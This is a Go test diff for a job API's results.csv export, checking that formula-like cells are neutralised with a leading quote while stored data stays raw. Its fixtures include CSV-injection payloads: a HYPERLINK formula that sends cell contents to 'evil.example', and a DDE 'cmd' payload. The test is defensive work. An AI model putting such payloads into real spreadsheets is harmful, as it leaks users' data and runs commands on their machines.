@@ -2,6 +2,7 @@ package jobapi
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"io"
@@ -15,6 +16,7 @@ import (
 	"testing"
 
 	"github.com/ampledata/temporal-kit/worker/enrichment"
+	"github.com/ampledata/temporal-kit/worker/extract"
 	"github.com/ampledata/temporal-kit/worker/jobcsv"
 	"github.com/ampledata/temporal-kit/worker/store"
 )
@@ -228,6 +230,73 @@ func flatten(prefix string, v any) map[string]any {
 		maps.Copy(out, flatten(k, x))
 	}
 	return out
+}
+
+// A page title that is a formula, and the user's own formula-like cells,
+// come out of results.csv as text; what the job stored stays raw.
+func TestResultsCSVNeutralisesFormulas(t *testing.T) {
+	api, st, _ := newAPI()
+	h := api.Handler()
+	code, out := do(t, h, http.MethodPost, "/jobs", "company,website,@note\n=1+2,,-5\nAcme,,plain\n")
+	if code != http.StatusAccepted {
+		t.Fatalf("POST: %d %s", code, out)
+	}
+	var created JobCreated
+	if err := json.Unmarshal([]byte(out), &created); err != nil {
+		t.Fatal(err)
+	}
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	st.save(store.Result{JobID: created.ID, Row: 0, OK: true, SiteURL: "http://evil.example/", Fields: extract.Fields{
+		Title:       extract.Found{Value: evil, URL: "http://evil.example/"},
+		Description: extract.Found{Value: "@SUM(1+1)*cmd|' /C calc'!A0", URL: "http://evil.example/"},
+		Phones:      []extract.Found{{Value: "+49 30 1234", URL: "http://evil.example/contact"}},
+	}}, store.Result{JobID: created.ID, Row: 1, OK: true, SiteURL: "http://acme.example/", Fields: extract.Fields{
+		Title: extract.Found{Value: "Acme Inc", URL: "http://acme.example/"},
+	}})
+
+	code, out = do(t, h, http.MethodGet, "/jobs/"+created.ID+"/results.csv", "")
+	if code != http.StatusOK {
+		t.Fatalf("results.csv: %d %s", code, out)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(recs) != 3 {
+		t.Fatalf("results.csv: %v\n%s", err, out)
+	}
+	col := map[string]int{}
+	for i, name := range append([]string{"company", "website", "note"}, store.ResultColumns...) {
+		col[name] = i
+	}
+	checks := []struct {
+		rec        int
+		name, want string
+	}{
+		{0, "note", "'@note"}, // the user's header
+		{1, "company", "'=1+2"},
+		{1, "note", "'-5"},
+		{1, "title", "'" + evil},
+		{1, "description", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{1, "phones", "'+49 30 1234 <http://evil.example/contact>"},
+		{1, "status", "ok"},
+		{1, "site_url", "http://evil.example/"},
+		{2, "company", "Acme"},
+		{2, "note", "plain"},
+		{2, "title", "Acme Inc"},
+	}
+	for _, c := range checks {
+		if got := recs[c.rec][col[c.name]]; got != c.want {
+			t.Errorf("record %d %s = %q, want %q", c.rec, c.name, got, c.want)
+		}
+	}
+
+	// Raw where the job keeps its data: the parsed rows (what search uses)
+	// and the stored result, which PostgreSQL holds as it is.
+	f := st.jobs[created.ID]
+	if f.Rows[0].Name != "=1+2" || f.Rows[0].Cols[2] != "-5" || f.Header[2] != "@note" {
+		t.Errorf("stored job row changed: %q %q", f.Header, f.Rows[0].Cols)
+	}
+	if got := st.results[created.ID][0].Fields.Title.Value; got != evil {
+		t.Errorf("stored title changed: %q", got)
+	}
 }
 
 func TestFileLevelErrorsAre400WithAMessage(t *testing.T) {
